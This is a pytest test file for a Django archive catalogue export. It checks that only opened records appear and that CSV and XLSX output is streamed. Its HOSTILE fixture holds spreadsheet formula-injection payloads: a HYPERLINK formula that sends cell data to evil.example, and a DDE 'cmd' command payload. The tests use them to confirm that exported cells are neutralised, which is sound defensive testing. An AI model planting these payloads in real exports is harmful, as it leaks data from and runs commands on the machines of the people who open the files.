"""The 开放档案目录 lists exactly the opened records, never a hidden one."""

from __future__ import annotations

import csv
import io

import pytest
from django.http import FileResponse, StreamingHttpResponse
from openpyxl import load_workbook

from lantai.access import catalogue


def test_csv_catalogue_lists_open_items_only(client, open_item, closed_item, unreviewed_item):
    response = client.get("/catalogue")
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert response.status_code == 200
    assert body.splitlines()[0].startswith("序号,档号,文号,责任者,题名")
    assert open_item.ref_code in body
    assert closed_item.title not in body and closed_item.ref_code not in body
    assert unreviewed_item.ref_code not in body


def test_xlsx_catalogue_has_one_row_per_open_item(client, open_item, closed_item):
    content = b"".join(client.get("/catalogue", {"format": "xlsx"}).streaming_content)
    sheet = load_workbook(io.BytesIO(content)).active
    values = [row for row in sheet.iter_rows(values_only=True)]
    assert values[0][1] == "档号"
    assert [row[1] for row in values[1:]] == [open_item.ref_code]


def test_catalogue_can_be_limited_to_one_fonds(client, open_item, other_fonds):
    from tests.factories import make_item

    elsewhere = make_item(other_fonds, title="其他全宗开放", open_status="open")
    body = b"".join(client.get("/catalogue", {"fonds": "J002"}).streaming_content).decode(
        "utf-8-sig"
    )
    assert elsewhere.ref_code in body and open_item.ref_code not in body


# Formulas ---------------------------------------------------------------------------------

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "creator": "+cmd|' /C calc'!A0",
    "doc_number": "-2+3",
}


@pytest.fixture
def hostile_item(fonds):
    from tests.factories import make_item

    return make_item(fonds, open_status="open", **HOSTILE)


def csv_rows(client, **params):
    body = b"".join(client.get("/catalogue", params).streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def test_csv_cells_that_would_run_as_formulas_get_a_leading_quote(client, hostile_item):
    row = csv_rows(client)[1]
    assert row[4] == "'" + HOSTILE["title"]
    assert row[3] == "'" + HOSTILE["creator"]
    assert row[2] == "'" + HOSTILE["doc_number"]


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\u3000=1", "＝1+1", "＠SUM(A1)"],
)
def test_every_formula_trigger_is_neutralised(value):
    assert catalogue.neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["关于道路改造的通知", "兰政发〔2020〕1号", "2020-05-01", "", "a=b"]
)
def test_ordinary_values_are_written_as_they_are(value):
    assert catalogue.neutralise(value) == value


def test_xlsx_cells_are_strings_never_formulas(client, hostile_item):
    content = b"".join(client.get("/catalogue", {"format": "xlsx"}).streaming_content)
    sheet = load_workbook(io.BytesIO(content)).active
    cells = next(sheet.iter_rows(min_row=2))
    assert {c.data_type for c in cells if c.value is not None} == {"s"}
    assert cells[4].value == HOSTILE["title"]  # exact: typed as text, no quote needed
    assert cells[3].value == HOSTILE["creator"]


def test_a_control_character_in_a_title_does_not_break_the_xlsx(client, fonds):
    from tests.factories import make_item

    make_item(fonds, title="会议\x0b纪要", open_status="open")
    response = client.get("/catalogue", {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert next(sheet.iter_rows(min_row=2, values_only=True))[4] == "会议纪要"


# Streaming --------------------------------------------------------------------------------


def test_the_csv_is_streamed(client, open_item):
    assert isinstance(client.get("/catalogue"), StreamingHttpResponse)


def test_the_xlsx_is_streamed_from_a_temporary_file(client, open_item):
    response = client.get("/catalogue", {"format": "xlsx"})
    assert isinstance(response, FileResponse)
    assert int(response["Content-Length"]) > 0  # known before sending: the file is finished
    assert response["Content-Disposition"] == 'attachment; filename="open-catalogue.xlsx"'
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")


def test_the_temporary_xlsx_file_is_closed_and_so_deleted_once_sent(client, open_item, monkeypatch):
    spools = []
    original = catalogue.xlsx_file

    def spy(fonds=""):
        spools.append(original(fonds))
        return spools[-1]

    monkeypatch.setattr(catalogue, "xlsx_file", spy)
    response = client.get("/catalogue", {"format": "xlsx"})
    assert load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.max_row == 2
    response.close()
    assert spools[0].closed  # an anonymous TemporaryFile: closing it removes it from the disk


def test_rows_are_read_with_an_iterator_not_loaded_at_once(db, monkeypatch, open_item):
    from django.db.models.query import QuerySet

    chunks = []
    original = QuerySet.iterator

    def spy(self, chunk_size=None):
        chunks.append(chunk_size)
        return original(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", spy)
    assert [row[1] for row in catalogue.rows()] == [open_item.ref_code]
    assert chunks == [2000]
